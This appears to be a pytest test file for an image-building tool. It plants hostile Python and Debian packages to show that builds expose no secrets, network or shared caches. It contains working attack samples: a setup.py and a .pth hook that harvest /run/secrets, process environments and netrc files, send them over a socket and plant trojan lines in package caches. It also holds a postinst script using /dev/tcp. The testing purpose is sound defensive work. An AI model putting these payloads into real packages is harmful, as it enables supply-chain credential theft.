"""Packages of a hostile cluster look for secrets, networks and caches while their image is built, and find none."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import shutil
import socket
import subprocess
import tarfile
import threading
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import docker
import pytest

from dbmirror.build.fetched_files import build_contexts
from dbmirror.build.image import build_image
from dbmirror.ca_bundle import find_ca_bundle
from dbmirror.config import IndexConfig
from dbmirror.fetch.store import Store
from dbmirror.filters.flavour import Flavour
from dbmirror.inventory.model import Layer
from dbmirror.lock.debs.model import DebFile, LockedStep
from dbmirror.lock.debs.own_sources import archives_of_this_machine
from dbmirror.lock.fates import Fate, FateKind
from dbmirror.lock.model import AptPackage, BaseImage, BaseKind, ImageLayer, IndexFile, Lock, LockedPackage, Target
from dbmirror.lock.python.build_needs import with_support
from dbmirror.lock.python.index import Index
from dbmirror.lock.python.index_settings import IndexSettings, find_indexes
from dbmirror.render.file_groups import build_needs
from dbmirror.render.image import all_file_groups, render
from dbmirror.runtimes.lookup import lookup
from dbmirror.sandbox.base import ensure_base
from tests.stack.planted import users_proxies
from tests.supported import chosen_debs

pytestmark = pytest.mark.stack

PASSWORD, PROXY_PASSWORD, CERTIFICATE_MARK = "planted-index-word", "planted-proxy-word", "# planted-certificate-mark"
TROJAN = "the-trojan-was-here"

ATTACK = """
import glob, json, os, socket
def attack(kind, place):
    loot = {"kind": kind, "environment": dict(os.environ), "files": {}, "sent": [], "written": []}
    for path in glob.glob("/run/secrets/*") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/run/**/*netrc*"):
        try:
            loot["files"][path] = open(path, errors="replace").read()
        except OSError:
            pass
    for host in ("127.0.0.1", "@BRIDGE@"):
        try:
            with socket.create_connection((host, @PORT@), timeout=2) as connection:
                connection.sendall(json.dumps(loot).encode())
            loot["sent"].append(host)
        except OSError:
            pass
    caches = ["/root/.cache/uv", "/root/.cache/pip", "/var/cache", os.environ.get("UV_CACHE_DIR") or "/root/.cache/uv"]
    for cache in caches:
        for folder, _, names in os.walk(cache):
            for name in names:
                if name.endswith(".py"):
                    try:
                        open(os.path.join(folder, name), "a").write("\\n# @TROJAN@\\n")
                        loot["written"].append(name)
                    except OSError:
                        pass
        try:
            os.makedirs(cache, exist_ok=True)
            open(os.path.join(cache, "@TROJAN@.py"), "w").write("# @TROJAN@")
        except OSError:
            pass
    try:
        os.makedirs(place, exist_ok=True)
        json.dump(loot, open(os.path.join(place, kind + ".json"), "w"))
    except OSError:
        pass
"""


POSTINST = """#!/bin/bash
mkdir -p /opt/loot
{
  echo "secrets: $(ls -A /run/secrets 2>/dev/null)"
  echo "interfaces: $(ls /sys/class/net)"
  cat /run/secrets/* /proc/[0-9]*/environ
} >/opt/loot/debian.txt 2>/dev/null
(echo debian >/dev/tcp/@BRIDGE@/@PORT@) 2>/dev/null && echo sent >>/opt/loot/debian.txt
touch /run/dbmirror/files/trojan /run/dbmirror/scripts/trojan 2>/dev/null
exit 0
"""


def debian_package(folder: Path, postinst: str) -> bytes:
    """A Debian package whose own script attacks when it is installed."""
    control = folder / "acme-debian" / "DEBIAN"
    control.mkdir(parents=True)
    (control / "control").write_text(
        "Package: acme-debian\nVersion: 1.0\nArchitecture: all\nMaintainer: Evil <evil@evil.example>\n"
        "Description: looks around\n"
    )
    (control / "postinst").write_text(postinst)
    (control / "postinst").chmod(0o755)
    package = folder / "acme-debian_1.0_all.deb"
    argv = ["dpkg-deb", "--root-owner-group", "--build", str(control.parent), str(package)]
    subprocess.run(argv, check=True, capture_output=True)
    return package.read_bytes()


def source(attack: str) -> bytes:
    """A source distribution whose setup.py attacks, and puts what it found into its wheel."""
    setup = attack + (
        "\nattack('source', 'acme_evil')\nopen('acme_evil/__init__.py', 'w').close()\n"
        "from setuptools import setup\n"
        "setup(name='acme-evil', version='1.0', packages=['acme_evil'], package_data={'acme_evil': ['*.json']})\n"
    )
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, text in (("setup.py", setup), ("PKG-INFO", "Metadata-Version: 2.1\nName: acme-evil\nVersion: 1.0\n")):
            entry = tarfile.TarInfo(f"acme-evil-1.0/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return gzip.compress(stream.getvalue(), mtime=0)


def wheel(name: str, files: dict[str, str]) -> bytes:
    """A wheel with these files."""
    folder = f"{name}-1.0.dist-info"
    contents = {
        **files,
        f"{folder}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{folder}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    lines = [f"{path},sha256={_hash(text)},{len(text.encode())}" for path, text in contents.items()]
    contents[f"{folder}/RECORD"] = "".join(f"{line}\n" for line in [*lines, f"{folder}/RECORD,,"])
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for path, text in contents.items():
            archive.writestr(path, text)
    return stream.getvalue()


def _hash(text: str) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()


@dataclass
class Listener:
    """Takes whatever is sent to the engine's bridge or to loopback."""

    bridge: str
    port: int
    heard: list[bytes] = field(default_factory=list)


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    client = docker.from_env()
    try:
        bridge = str(client.networks.get("bridge").attrs["IPAM"]["Config"][0]["Gateway"])
    finally:
        client.close()
    sockets = [socket.create_server((bridge, 0))]
    port = sockets[0].getsockname()[1]
    sockets.append(socket.create_server(("127.0.0.1", port)))
    found = Listener(bridge=bridge, port=port)

    def listen(server: socket.socket) -> None:
        with suppress(OSError):
            while True:
                connection, _ = server.accept()
                with connection:
                    connection.settimeout(5)
                    with suppress(OSError):
                        found.heard.append(connection.recv(1 << 20))

    for server in sockets:
        threading.Thread(target=listen, args=(server,), daemon=True).start()
    yield found
    for server in sockets:
        server.close()


@dataclass
class Hostile:
    """An index with the packages of the attack, and how the image of a lock is made."""

    address: str
    contents: dict[str, bytes]
    settings: IndexSettings
    others: IndexSettings
    """Without the index of the attack."""
    ca_bundle: Path
    folder: Path
    asked: list[str | None]
    """The Authorization of each request."""

    def package(self, name: str, filename: str, layer: ImageLayer) -> LockedPackage:
        file = IndexFile(
            filename=filename,
            url=f"{self.address}/{filename}",
            sha256=hashlib.sha256(self.contents[f"/{filename}"]).hexdigest(),
            size=len(self.contents[f"/{filename}"]),
            index=f"{self.address}/simple/",
        )
        return LockedPackage(name=name, version="1.0", layer=layer, source=file)

    def build(self, mirror: str, *packages: LockedPackage, known: Sequence[LockedStep] = ()) -> str:
        """Lock what the build needs, render, fetch and build; the image's tag. `known` are steps of apt to be taken."""
        base = ensure_base()
        lock = Lock(
            snapshot="sha256:" + hashlib.sha256(mirror.encode()).hexdigest(),
            runtime="15.4",
            target=Target(python="3.11.2", architecture="x86_64", glibc="2.36"),
            base=BaseImage(reference=base.name, kind=BaseKind.BARE, os_id="debian", os_version="12"),
            packages=packages,
            fates=tuple(
                Fate(
                    name=package.name,
                    version="1.0",
                    layer=Layer.CLUSTER,
                    location="/x",
                    kind=FateKind.MIRRORED,
                    reason="The test says so.",
                )
                for package in packages
            ),
            indexes=self.settings.urls,
        )
        runtime, flavour = lookup("15.4"), Flavour.PYTHON
        with Index(self.settings, ca_bundle=self.ca_bundle) as index, Store() as store:
            needs = build_needs(lock, runtime, flavour=flavour)
            lock = with_support(lock, needs, index=index, store=store, folder=self.folder)
        assert len(lock.packages) == len(packages), lock.fates
        context = self.folder / mirror
        debian = chosen_debs(lock, known=known)
        render(lock, runtime, mirror=mirror, debian=debian).write(context)
        tag = f"scratch-foreign-code:{mirror}"
        groups = {mirror: all_file_groups(lock, runtime, flavour=flavour, r_lock=None, debian=debian)}
        logins = self.settings.logins().with_those_of(archives_of_this_machine())
        with build_contexts(groups, indexes=self.settings, logins=logins, ca_bundle=self.ca_bundle) as contexts:
            build_image(
                context,
                tags=[tag],
                snapshot=lock.snapshot,
                lock="sha256:0",
                contexts=contexts[mirror],
                record=self.folder / f"{mirror}.json",
            )
        return tag


@pytest.fixture(scope="module")
def hostile(listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    folder = tmp_path_factory.mktemp("hostile")
    attack = (
        ATTACK.replace("@BRIDGE@", listener.bridge).replace("@PORT@", str(listener.port)).replace("@TROJAN@", TROJAN)
    )
    # A line of a .pth file is run at every start of the interpreter.
    hook = "import acme_hook\n"
    contents = {
        "/acme-evil-1.0.tar.gz": source(attack),
        "/acme_hook-1.0-py3-none-any.whl": wheel(
            "acme_hook", {"acme_hook.pth": hook, "acme_hook.py": attack + "\nattack('hook', '/opt/loot')\n"}
        ),
        "/acme-debian_1.0_all.deb": debian_package(
            folder, POSTINST.replace("@BRIDGE@", listener.bridge).replace("@PORT@", str(listener.port))
        ),
        "/acme_plain-1.0-py3-none-any.whl": wheel("acme_plain", {"acme_plain.py": "VALUE = 1\n"}),
    }
    asked: list[str | None] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.headers.get("Authorization"))
            content = contents.get(self.path)
            self.send_response(200 if content is not None else 404)
            self.send_header("Content-Length", str(len(content or b"")))
            self.end_headers()
            self.wfile.write(content or b"")

        def log_message(self, *_: object) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{server.server_port}"
    bundle = folder / "ca.pem"
    trusted = find_ca_bundle()
    shutil.copyfile(trusted, bundle) if trusted else bundle.write_text(
        Path("/etc/ssl/certs/ca-certificates.crt").read_text()
    )
    bundle.write_text(f"{CERTIFICATE_MARK}\n{bundle.read_text()}")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DBMIRROR_HOME", str(folder / "home"))
        # One that no step here has a use for: what is handed on is handed on all the same.
        patch.setenv("FTP_PROXY", f"http://me:{PROXY_PASSWORD}@proxy.example:3128")
        users = find_indexes(IndexConfig())
        patch.setenv("UV_INDEX", f"http://me:{PASSWORD}@127.0.0.1:{server.server_port}/simple/")
        yield Hostile(
            address=address,
            contents=contents,
            settings=find_indexes(IndexConfig()),
            others=users,
            ca_bundle=bundle,
            folder=folder,
            asked=asked,
        )
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def attacked(hostile: Hostile) -> Iterator[str]:
    """The image of a cluster with these packages; the hook starts with every interpreter in the layers above."""
    content = hostile.contents["/acme-debian_1.0_all.deb"]
    file = DebFile(
        filename="acme-debian_1.0_all.deb",
        url=f"{hostile.address}/acme-debian_1.0_all.deb",
        sha256=hashlib.sha256(content).hexdigest(),
        size=len(content),
    )
    apt = LockedStep(name="packages", below="system", packages=("acme-debian=1.0",), files=(file,))
    yield hostile.build(
        "attacked",
        LockedPackage(
            name="acme-debian",
            version="1.0",
            layer=ImageLayer.SYSTEM,
            source=AptPackage(package="acme-debian", version="1.0"),
        ),
        hostile.package("acme-hook", "acme_hook-1.0-py3-none-any.whl", ImageLayer.RUNTIME),
        hostile.package("acme-plain", "acme_plain-1.0-py3-none-any.whl", ImageLayer.CLUSTER),
        hostile.package("acme-evil", "acme-evil-1.0.tar.gz", ImageLayer.NOTEBOOK),
        known=[apt],
    )
    assert any(hostile.asked), "the tool itself has the login of the index"
    subprocess.run(["docker", "rmi", "-f", "scratch-foreign-code:attacked"], check=False, capture_output=True)


def saved(tag: str) -> bytes:
    return subprocess.run(["docker", "save", tag], check=True, capture_output=True).stdout


def loot(tag: str, path: str) -> dict[str, object]:
    argv = ["docker", "run", "--rm", "--network", "none", "--entrypoint", "cat", tag, path]
    found: dict[str, object] = json.loads(subprocess.run(argv, check=True, capture_output=True).stdout)
    return found


@pytest.mark.parametrize(
    "path", ["/databricks/python3/lib/python3.11/site-packages/acme_evil/source.json", "/opt/loot/hook.json"]
)
def test_the_attack_ran_and_found_neither_a_secret_nor_a_network(attacked: str, path: str) -> None:
    found = loot(attacked, path)

    assert not [name for name in found["files"] if name.startswith("/run/secrets")]  # type: ignore[attr-defined]
    assert found["sent"] == []
    assert not [name for name in found["environment"] if "proxy" in name.lower()]  # type: ignore[attr-defined]


def test_the_script_of_a_debian_package_ran_and_found_neither(attacked: str) -> None:
    argv = ["docker", "run", "--rm", "--network", "none", "--entrypoint", "cat", attacked, "/opt/loot/debian.txt"]
    found = subprocess.run(argv, check=True, capture_output=True, text=True).stdout

    assert found.startswith("secrets: \ninterfaces: lo\n")
    assert "sent" not in found.splitlines()
    assert "proxy" not in found.lower()


def test_no_layer_and_no_line_of_history_has_a_planted_secret(attacked: str) -> None:
    content = saved(attacked)
    for secret in (PASSWORD, PROXY_PASSWORD, CERTIFICATE_MARK):
        assert secret.encode() not in content
        assert base64.b64encode(secret.encode())[:-4] not in content


def test_the_listener_heard_nothing_but_what_has_a_network(attacked: str, listener: Listener) -> None:
    assert listener.heard == []
    said = f"echo control >/dev/tcp/{listener.bridge}/{listener.port}"
    subprocess.run(["docker", "run", "--rm", "--entrypoint", "bash", attacked, "-c", said], check=True)
    assert listener.heard == [b"control\n"], "the listener can be heard from a container that has a network"
    listener.heard.clear()


def test_a_second_mirror_gets_nothing_of_what_the_first_wrote_into_caches(attacked: str, hostile: Hostile) -> None:
    tag = hostile.build("second", hostile.package("acme-plain", "acme_plain-1.0-py3-none-any.whl", ImageLayer.CLUSTER))
    try:
        assert TROJAN.encode() not in saved(tag)
    finally:
        subprocess.run(["docker", "rmi", "-f", tag], check=False, capture_output=True)


def test_a_plain_docker_build_fetches_by_itself_and_gives_the_same_packages(hostile: Hostile) -> None:
    """Without the tool: from the rendered folder alone, with the secrets that it has mounts for."""
    environment = {name: value for name, value in os.environ.items() if name != "FTP_PROXY"}
    users = replace(hostile, settings=hostile.others)
    tag = users.build("plain")
    by_hand = "scratch-foreign-code:by-hand"
    try:
        (hostile.folder / "proxy").write_bytes(users_proxies())
        secrets = {"ca-bundle": users.ca_bundle, "proxy": hostile.folder / "proxy"}
        given = [f"--secret=id={name},src={path}" for name, path in secrets.items()]
        subprocess.run(
            ["docker", "buildx", "build", "--builder", "default", "--load", "--tag", by_hand, *given, "."],
            cwd=hostile.folder / "plain",
            env=environment,
            check=True,
            capture_output=True,
        )
        assert listing(by_hand) == listing(tag)
        assert CERTIFICATE_MARK.encode() not in saved(by_hand)
    finally:
        subprocess.run(["docker", "rmi", "-f", tag, by_hand], check=False, capture_output=True)


def listing(tag: str) -> str:
    """Every file of the environment and of the system's Python with its hash; virtualenv sorts no RECORD."""
    script = (
        "cd / && find databricks/python3 usr/local -type f ! -name '*.pyc' ! -name RECORD -exec sha256sum {} +"
        " | sort -k 2; find databricks/python3 usr/local -name RECORD -exec awk 1 {} + | sort"
    )
    argv = ["docker", "run", "--rm", "--network", "none", "--entrypoint", "bash", tag, "-c", script]
    return subprocess.run(argv, check=True, capture_output=True, text=True).stdout
